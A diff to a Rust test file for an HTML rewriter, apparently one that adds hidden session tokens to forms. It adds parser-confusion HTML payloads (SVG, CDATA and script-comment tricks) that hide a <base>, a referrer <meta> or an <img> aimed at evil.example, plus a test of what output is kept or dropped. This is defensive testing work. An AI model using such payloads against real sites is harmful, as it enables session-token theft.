@@ -320,6 +320,10 @@ fn the_pages_of_issue_27_leak_under_no_reading() {
         // to the browser, and the </form> lol_html reads in it is not there.
         r#"<form action="https://evil.example/"><div><svg></div><script></svg></div></form></script><form method=post><input name=pw></form>"#,
         r#"<div><svg></div><script>var a = '<a href="/x">';</script><a href=/n>n</a>"#,
+        // There lol_html's tokenizer stays in SVG: a CDATA section or an SVG <script>'s
+        // comment hides from it the <base> or <meta> a browser reads.
+        r#"<form method=post action=/x></form><select><svg></select><![CDATA[<a href=/e>r</a><base href="https://evil.example/">"#,
+        r#"<a href=/n>n</a><div><svg></div><script><!--</script><meta name=referrer content=unsafe-url><img src=https://evil.example/i>"#,
         // A <base> in <svg> is no base; `<table>` leaves the <svg>, and the next one is.
         r#"<svg><base href=/a/><table><base href="https://evil.example/"></svg><a href=/next>n</a>"#,
         // Nested foreign content, then a tag that takes the tree builder out of all of it and
@@ -348,6 +352,30 @@ fn the_pages_of_issue_27_leak_under_no_reading() {
         }
     }
     assert!(failed.is_empty(), "failed on {failed:#?}");
+}
+
+/// Where lol_html loses a browser's view (`<div><svg></div>`), the rest of the page is held
+/// and kept whole when it names nothing that could send a token elsewhere, and dropped when
+/// it does.
+#[test]
+fn the_rest_after_a_lost_view_is_kept_unless_it_names_a_way_out() {
+    let kept = "<form method=post><input name=a></form><div><svg></div><p>The rest, <a href=/n>with a link</a>.</p>";
+    let (out, ending) = properties::rewrite_and_tell(kept.as_bytes(), &[60], true);
+    let out = String::from_utf8(out).unwrap();
+    assert!(!ending.cut_short, "{out}");
+    assert!(
+        out.ends_with("<p>The rest, <a href=/n>with a link</a>.</p>"),
+        "{out}"
+    );
+    assert!(
+        out.contains(r#"<input type="hidden" name="sessionid""#),
+        "{out}"
+    );
+
+    let dropped = "<div><svg></div><p>The rest</p><meta name=referrer content=no-referrer>";
+    let (out, ending) = properties::rewrite_and_tell(dropped.as_bytes(), &[], true);
+    assert!(ending.cut_short);
+    assert_eq!(String::from_utf8(out).unwrap(), "<div><svg>");
 }
 
 /// A short run of the structure-aware fuzz target: pages of `properties::PIECES`, many of
